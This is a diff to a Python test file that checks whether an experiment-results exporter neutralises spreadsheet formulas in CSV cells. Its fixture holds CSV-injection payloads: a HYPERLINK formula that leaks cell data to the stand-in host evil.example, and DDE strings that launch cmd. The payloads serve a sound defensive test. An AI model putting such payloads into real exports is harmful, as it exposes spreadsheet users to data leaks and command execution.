@@ -1,6 +1,8 @@
 """Exports: each format reads back (pandas) with the documented columns, every result can be
-recomputed from the exported sufficient statistics, filters and the CLI work."""
+recomputed from the exported sufficient statistics, filters and the CLI work; CSV cells cannot
+carry spreadsheet formulas."""
 
+import csv
 import io
 import json
 import re
@@ -444,3 +446,53 @@ def test_cli_rejects_bad_input_with_a_message(project, history, tmp_path):
         call_command("export_results", project=project.slug, since="last week")
     with pytest.raises(CommandError, match="Unknown status 'live'"):
         call_command("export_results", project=project.slug, status=["live"])
+
+
+FORMULA_NAMES = {
+    "experiment": '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
+    "purchase": "=cmd|' /C calc'!A0",
+    "errors": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "revenue": "\t-2+3+cmd|' /C calc'!A0",
+}
+
+
+def test_csv_export_neutralises_formulas_in_names_but_keeps_numbers(project, api):
+    """The finding: experiment and metric names like =HYPERLINK(...) or =cmd|' /C calc'!A0 came
+    out verbatim in CSV, where a spreadsheet runs them. Text cells that begin with =, +, -, @,
+    tab or CR now begin with a single quote; numbers (negative lifts too) are untouched."""
+    ensure_metrics(project)
+    for key in ("purchase", "errors", "revenue"):
+        Metric.objects.filter(project=project, key=key).update(name=FORMULA_NAMES[key])
+    seed_results(project, name=FORMULA_NAMES["experiment"], lift=-0.6, looks=1)
+    for url in (
+        "/api/v1/projects/shop/experiments/checkout-v2/export?format=csv",
+        "/api/v1/projects/shop/results/export?format=csv",  # the pages' download button
+    ):
+        response = api.get(url)
+        assert response.status_code == 200, url
+        text = b"".join(response.streaming_content).decode()
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert rows
+        for row in rows:
+            assert row["experiment_name"] == "'" + FORMULA_NAMES["experiment"]
+            assert row["metric_name"] == "'" + FORMULA_NAMES[row["metric"]]
+        kinds = {c.name: c.type for c in columns()}
+        for row in rows:
+            for name, value in row.items():
+                if kinds[name] != "string":
+                    assert not value.startswith("'"), (name, value)
+                if kinds[name] == "string" and value:
+                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
+        lifts = [float(r["lift_abs"]) for r in rows if r["lift_abs"]]
+        assert any(x < 0 for x in lifts)  # a negative number stays a number
+        assert all(r["lift_abs"] == "" or not r["lift_abs"].startswith("'") for r in rows)
+
+
+def test_json_and_parquet_exports_carry_names_unchanged(project):
+    ensure_metrics(project)
+    Metric.objects.filter(project=project, key="purchase").update(name=FORMULA_NAMES["purchase"])
+    seed_results(project, name=FORMULA_NAMES["experiment"], looks=1)
+    for fmt in ("json", "parquet"):
+        frame = read(fmt, export_bytes(project, fmt))
+        assert set(frame["experiment_name"]) == {FORMULA_NAMES["experiment"]}
+        assert FORMULA_NAMES["purchase"] in set(frame["metric_name"])
